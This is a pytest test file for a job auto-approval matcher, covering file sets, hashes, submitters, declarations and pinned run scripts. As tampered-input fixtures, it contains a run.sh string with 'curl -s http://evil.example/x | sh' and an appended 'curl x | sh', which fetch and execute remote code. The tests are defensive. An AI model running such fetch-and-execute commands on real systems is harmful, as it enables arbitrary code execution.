"""Strict matching: exact file sets, content hashes, submitters, declarations, run scripts."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from syft_monitors.approve.matching import Hasher, MatchResult, Submission, match_job
from syft_monitors.approve.run_script import JobDeclaration, canonical_run_script
from syft_monitors.approve_rules import AutoApprovalRule, FileHash, JobSpec


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


DEPS = ("syft-client==0.1.117",)
DECLARED = JobDeclaration("python", "main.py", DEPS)
CANONICAL = (canonical_run_script(DECLARED, has_pyproject=False, bash_script=None) or b"").decode()
CONTENT = {"main.py": "print(1)\n", "lib/util.py": "x = 1\n", "run.sh": CANONICAL}


class FakeHasher:
    """Hashes by file name from CONTENT and records which files were hashed."""

    def __init__(self, overrides: dict[str, str] | None = None) -> None:
        self.content = {**CONTENT, **(overrides or {})}
        self.calls: list[str] = []

    def __call__(self, path: Path) -> str:
        self.calls.append(path.as_posix())
        return digest(self.content[path.as_posix()])


def files(*names: str) -> dict[str, Path]:
    return {name: Path(name) for name in names}


RULE = AutoApprovalRule(
    name="train",
    peers=("ann@x.org",),
    file_contents=(
        FileHash(relative_path="main.py", sha256=digest(CONTENT["main.py"])),
        FileHash(relative_path="lib/util.py", sha256=digest(CONTENT["lib/util.py"])),
    ),
    file_paths=("params.json",),
    job=JobSpec(type="python", entrypoint="main.py", dependencies=DEPS),
    canonical_run_sh=True,
)
JOB_FILES = ("main.py", "lib/util.py", "params.json")


def match(
    rules: list[AutoApprovalRule],
    submitter: str,
    names: tuple[str, ...] = JOB_FILES,
    hasher: Hasher | None = None,
    *,
    declaration: JobDeclaration | str = DECLARED,
    run_sh: bool = True,
) -> MatchResult:
    submission = Submission(files(*names), Path("run.sh") if run_sh else None, declaration)
    return match_job(rules, submitter, submission, hasher or FakeHasher())


def test_exact_match() -> None:
    assert match([RULE], "Ann@x.org").rule == "train"


def test_extra_and_missing_files_fail_without_hashing_anything() -> None:
    hasher = FakeHasher()
    extra = match([RULE], "ann@x.org", (*JOB_FILES, "evil.py"), hasher)
    missing = match([RULE], "ann@x.org", ("main.py", "params.json"), hasher)
    assert extra.rule is None
    assert "extra 'evil.py'" in extra.refusals["train"]
    assert missing.rule is None
    assert "missing 'lib/util.py'" in missing.refusals["train"]
    assert hasher.calls == []


def test_hash_mismatch_fails() -> None:
    result = match([RULE], "ann@x.org", hasher=FakeHasher({"lib/util.py": "x = 2\n"}))
    assert result.rule is None
    assert "hash mismatch in 'lib/util.py'" in result.explain()


def test_other_submitter_is_not_considered() -> None:
    result = match([RULE], "bob@x.org")
    assert result.rule is None
    assert result.refusals == {}
    assert result.explain() == "no rule applies to this submitter"


def test_first_matching_rule_wins_and_each_file_is_hashed_once() -> None:
    loose = RULE.model_copy(update={"name": "loose", "peers": ()})
    assert match([RULE, loose], "ann@x.org").rule == "train"
    wrong = RULE.model_copy(update={"name": "wrong", "file_paths": ("other.json",)})
    hasher = FakeHasher()
    result = match([wrong, loose, RULE], "ann@x.org", hasher=hasher)
    assert result.rule == "loose"
    assert sorted(hasher.calls) == ["lib/util.py", "main.py", "run.sh"]


def test_pinned_run_script() -> None:
    custom = "#!/bin/bash\ncd code && python main.py\n"
    pinned = RULE.model_copy(update={"run_sh_sha256": (digest(custom),), "canonical_run_sh": False})
    assert match([pinned], "ann@x.org", hasher=FakeHasher({"run.sh": custom})).rule == "train"
    # The generated script is not accepted by a rule that pins another one.
    assert match([pinned], "ann@x.org").rule is None
    assert match([pinned], "ann@x.org", run_sh=False).rule is None


EVIL_RUN_SH = "#!/bin/bash\ncurl -s http://evil.example/x | sh\n" + CANONICAL.split("\n", 1)[1]


@pytest.mark.parametrize(
    ("declaration", "run_sh", "why"),
    [
        (DECLARED, EVIL_RUN_SH, "run.sh is not the script syft-job generates"),
        (JobDeclaration("python", "main.py", (*DEPS, "evil")), None, "declares dependencies"),
        (JobDeclaration("python", "lib/util.py", DEPS), None, "declares entrypoint"),
        (JobDeclaration("bash", None, ()), None, "declares type"),
        ("config.yaml: dependencies is not a list of strings", None, "not a list"),
    ],
    ids=["run.sh", "dependency", "entrypoint", "type", "unreadable"],
)
def test_look_alike_declarations_and_scripts_never_match(
    declaration: JobDeclaration | str, run_sh: str | None, why: str
) -> None:
    hasher = FakeHasher({"run.sh": run_sh} if run_sh else None)
    result = match([RULE], "ann@x.org", hasher=hasher, declaration=declaration)
    assert result.rule is None
    assert why in result.refusals["train"]


def test_canonical_script_follows_the_declared_dependencies() -> None:
    """A rule pinning two packages accepts the script generated for exactly those two."""
    both = JobDeclaration("python", "main.py", (*DEPS, "numpy==2.0"))
    rule = RULE.model_copy(
        update={"job": JobSpec(type="python", entrypoint="main.py", dependencies=both.dependencies)}
    )
    script = (canonical_run_script(both, has_pyproject=False, bash_script=None) or b"").decode()
    assert match([rule], "ann@x.org", hasher=FakeHasher({"run.sh": script}), declaration=both).rule
    # The one-package script does not pass for the two-package declaration.
    assert match([rule], "ann@x.org", declaration=both).rule is None


def test_bash_job_runs_its_own_script() -> None:
    script = "#!/bin/bash\necho hi\n"
    rule = AutoApprovalRule(
        name="sh",
        file_contents=(FileHash(relative_path="script.sh", sha256=digest(script)),),
        job=JobSpec(type="bash"),
        canonical_run_sh=True,
    )
    bash = JobDeclaration("bash", None, ())
    same = FakeHasher({"script.sh": script, "run.sh": script})
    other = FakeHasher({"script.sh": script, "run.sh": script + "curl x | sh\n"})
    assert match([rule], "a@x.org", ("script.sh",), same, declaration=bash).rule == "sh"
    assert match([rule], "a@x.org", ("script.sh",), other, declaration=bash).rule is None


def test_unpinned_rule_never_matches_and_says_why() -> None:
    old = AutoApprovalRule(
        name="old", file_contents=(FileHash(relative_path="main.py", sha256=digest("print(1)\n")),)
    )
    result = match([old], "ann@x.org", ("main.py",))
    assert result.rule is None
    assert "inactive: it does not pin run.sh" in result.refusals["old"]
    opted = old.model_copy(update={"allow_unreviewed_run_sh": True})
    assert match([opted], "ann@x.org", ("main.py",)).rule == "old"
